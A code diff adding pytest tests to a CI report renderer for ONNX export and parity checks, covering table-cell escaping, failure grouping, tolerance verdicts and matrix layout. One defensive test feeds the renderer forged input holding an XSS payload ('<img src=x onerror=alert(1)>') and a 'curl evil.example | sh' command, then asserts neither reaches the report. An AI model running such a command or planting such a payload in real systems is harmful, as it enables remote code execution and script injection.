@@ -3,11 +3,12 @@
 from __future__ import annotations
 
 import dataclasses
+import re
 from pathlib import Path
 
 import pytest
 
-from ci_onnx.report import limits, render
+from ci_onnx.report import limits, render, view
 from tests.golden import cases
 
 GOLDEN = Path(__file__).parent.parent / "golden"
@@ -68,7 +69,46 @@ def test_byte_limits_count_bytes() -> None:
 
 
 def test_cells_cannot_break_a_table_or_inject_html() -> None:
-    assert render.cell("a | b\nc <img src=x>") == "a \\| b c &lt;img src=x&gt;"
+    assert render.cell("a | b\nc <img src=x>") == "a \\| b c ‹img src=x›"
+    assert render.cell("opset <= 20; needs >= 1.18") == "opset ≤ 20; needs ≥ 1.18"
+
+
+@pytest.mark.parametrize("name", sorted(cases.rendered()))
+def test_reports_hold_no_html_entities_and_no_python_reprs(name: str) -> None:
+    text = cases.rendered()[name]
+    assert not re.search(r"&(lt|gt|amp|quot|#\d+);", text), name
+    assert "[{" not in text and "{'" not in text and "=[" not in text, name
+
+
+def test_a_failed_export_is_shown_once_with_the_targets_it_fails() -> None:
+    v = cases.export_failed_view()
+    (bundle,) = [f for f in v.failures if f.target == "bundle op17-dynamo"]
+    assert bundle.reason == "opset: asked for opset 17 but the file is at opset 18"
+    assert bundle.affects == tuple(sorted(bundle.affects)) and len(bundle.affects) == 3
+    assert not any(f.target.endswith("-op17-dynamo") for f in v.failures)
+    text = render.render(v)
+    assert text.count("asked for opset 17 but the file is at opset 18") == 2  # summary line + check row
+    assert "--only '*-op17-dynamo'" in text
+
+
+def test_a_large_max_rel_that_atol_covered_reads_as_a_pass() -> None:
+    v = cases.export_failed_view()
+    (row,) = [r for r in v.parity if r.target == "ort1.24.1-openvino-op18-dynamo"]
+    assert (row.max_rel, row.tolerance, row.outside, row.verdict) == (
+        "0.0102",
+        "atol 0.0001 + rtol 0.001",
+        "0 of 480",
+        "✅",
+    )
+
+
+def test_large_plans_open_with_the_compact_matrix() -> None:
+    v = cases.many_view()
+    assert v.overview is not None
+    text = render.render(v)
+    assert text.index("| runtime | op17-dynamo |") < text.index("### Failures")
+    icons = [i for _, row in v.overview.rows for i in row if i != "·"]
+    assert icons.count("❌") == v.counts.failed and len(icons) == v.counts.total
 
 
 def test_a_failure_message_with_pipes_stays_in_its_cell() -> None:
@@ -97,3 +137,18 @@ def test_long_tables_fold_passing_rows_into_details() -> None:
 def test_short_tables_are_not_folded() -> None:
     text = render.render_within(cases.tinycnn_view(), limits.COMMENT)
     assert "passing row(s)</summary>" not in text
+
+
+def test_fork_chosen_text_cannot_forge_a_heading_or_a_command() -> None:
+    from ci_onnx.report.collect import merge
+    from tests.golden import scenarios
+
+    plan, results = scenarios.all_passing()
+    forged = "x.yml\n```\n## ✅ onnx-gate: all 12 targets passed\n<img src=x onerror=alert(1)>"
+    plan = dataclasses.replace(plan, config=forged)
+    bad = dataclasses.replace(scenarios.errored(results[0], forged), reproduce="curl evil.example | sh")
+    v = view.build(merge({r.target.id: r for r in [bad, *results[1:]]}, plan))
+    text = render.render(v)
+    assert "curl evil.example" not in text
+    assert "<img" not in text and "\n## ✅" not in text
+    assert f"onnx-gate run --config onnx-gate.yml --only '{bad.target.id}'" in text
